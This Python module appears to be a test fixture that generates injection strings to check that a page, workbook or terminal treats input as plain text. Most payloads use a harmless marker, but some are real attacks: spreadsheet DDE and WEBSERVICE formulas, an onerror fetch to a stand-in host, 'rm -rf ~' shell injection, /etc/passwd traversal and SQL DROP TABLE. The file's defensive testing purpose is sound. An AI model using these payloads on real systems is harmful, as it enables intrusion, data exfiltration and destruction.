"""Texts that would do something if a page, a workbook or a terminal took them for more than text.

Every payload that could run sets `window.ran`, opens a dialog, or asks for a file; so a browser that has seen none of these
has run none of them.
"""

RUN = "window.ran=1"

_HTML = [
    "<script>{run}</script>", "</script><script>{run}</script>", "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<scr<script>ipt>{run}</scr</script>ipt>", "</title><script>{run}</script>", "</style><script>{run}</script>",
    "</td></tr></table><script>{run}</script>", "<img src=x onerror={run}>", "<img src=x onerror=\"{run}\">",
    "\"><img src=x onerror={run}>", "'><img src=x onerror={run}>", "<img src=`x`onerror={run}>", "<svg onload={run}>",
    "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x></svg>",
    "<svg><a xlink:href=\"javascript:{run}\"><text y=1em>点这里</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg onload={run}>\"/>",
    "<svg><foreignObject><iframe src=javascript:{run}></iframe></foreignObject></svg>", "<math><mi xlink:href=javascript:{run}>x</mi></math>",
    "<iframe src=javascript:{run}></iframe>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>", "<body onload={run}>", "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>", "<details open ontoggle={run}>", "<video><source onerror={run}></video>", "<audio src=x onerror={run}>",
    "<marquee onstart={run}>", "<a href=javascript:{run}>点这里</a>", "<a href=\"jav&#x09;ascript:{run}\">点这里</a>", "<form action=javascript:{run}><button>提交</button></form>",
    "<button formaction=javascript:{run}>点</button>", "<base href=//x.example/>", "<link rel=stylesheet href=//x.example/a.css>",
    "<meta http-equiv=refresh content=0;url=//x.example/>", "<style>@import'//x.example/a.css';</style>", "<p style=background:url(//x.example/a.png)>字</p>",
    "<p style=\"animation:x\" onanimationstart={run}>", "<template><script>{run}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "<!--><script>{run}</script-->", "<![CDATA[<script>{run}</script>]]>", "<?xml version='1.0'?><script>{run}</script>", "<xmp><script>{run}</script></xmp>",
    "{{{{constructor.constructor('{run}')()}}}}", "{{{{#style}}}}<script>{run}</script>{{{{/style}}}}", "{{{{{{script}}}}}}", "${{{run}}}", "<%= {run} %>",
    "javascript:{run}", "data:text/html,<script>{run}</script>", "vbscript:msgbox(1)", "onerror={run}", "\" onmouseover=\"{run}", "' onfocus='{run}' autofocus='",
    "\" autofocus onfocus={run} x=\"", "`onmouseover={run}`", "alert(1)", "<script>alert(1)</script>", "<img src=//x.example/pixel.png>",
    "<img/src='x'/onerror='fetch(`//x.example`)'>",
]
_ENTITIES = [
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "&#x3c;img src=x onerror={run}&#x3e;", "&amp;lt;b&amp;gt;", "&nbsp;&copy;&hearts;",
    "%3Cscript%3E{run}%3C/script%3E", "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "\\x3cscript\\x3e", "＜script＞{run}＜/script＞", "‹script›{run}‹/script›",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "&", "<", ">", "\"", "'", "&#0;", "&#xD800;", "]]>", "-->",
]
_FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://x.example\",\"点这里\")", "=cmd|' /C calc'!A0", "=WEBSERVICE(\"http://x.example/\"&A1)", "=IMPORTXML(\"http://x.example\",\"//a\")",
    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@import", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "'=1+1", "\"=1+1\"", ";=1+1", ",=1+1", "|=1+1", "=\"a\"&\"b\"", "=A1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "={run}", "0=1", "1e308", "-", "+", "=", "@",
]
_BIDI = [
    "甲\u202e乙丙", "\u202d甲乙", "\u2066甲\u2069乙", "gpj.\u202exe.附件4", "\u200f甲", "\u200e甲", "甲\u2067<script>{run}</script>\u2069", "\u061c甲", "a\u0301\u0301\u0301\u0301\u0301\u0301",
    "\u200b甲\u200b", "\ufeff甲", "甲\u00ad乙", "👩\u200d👩\u200d👧", "𠀀𪚥龘", "\ue000甲", "甲\u2028乙", "甲\u2029乙", "\u0085甲", "\x9b31m甲", "\u0300",
]
_LONG = ["长" * 5000, "<b>" * 1000, "&" * 3000, "\"" * 2000, "a" * 32000, "第一行\n第二行\n" * 200, " " * 500 + "甲", "甲" + "\u0301" * 400, "()" * 3000, "=" * 1000]
_TERMINAL = ["_x001B_[31m红", "_x0000_", "_x003C_script_x003E_{run}", "%s%n%d", "${IFS}", "$(touch /tmp/ran)", "`touch /tmp/ran`", "; rm -rf ~", "../../../etc/passwd", "CON", "NUL.txt",
              "file:///etc/passwd", "\\\\x.example\\c$", "' OR 1=1 --", "\"; DROP TABLE receipt; --", "Robert'); --", "{\"a\":1}", "[link](javascript:{run})", "![x](//x.example/a.png)",
              "To: a@x.example\nBcc: b@x.example", "Subject: 甲\r\nBcc: b@x.example"]


def payloads(count=200):
    """The first `count` texts, all different: variants of the HTML ones follow when the others are used up."""
    texts = [text.format(run=RUN) if "{run}" in text or "{{" in text else text for text in _HTML]
    # A short text of each kind comes early, so that a small count has some of all.
    kinds = [texts] + [[text.replace("{run}", RUN) for text in kind] for kind in (_FORMULAS, _ENTITIES, _BIDI, _TERMINAL, _LONG)]
    mixed = [kind[number] for number in range(max(map(len, kinds))) for kind in kinds if number < len(kind)]
    mixed += [f"合格{text}" for text in texts] + [f"2025-01-01 {text}" for text in texts]
    return list(dict.fromkeys(mixed))[:count]
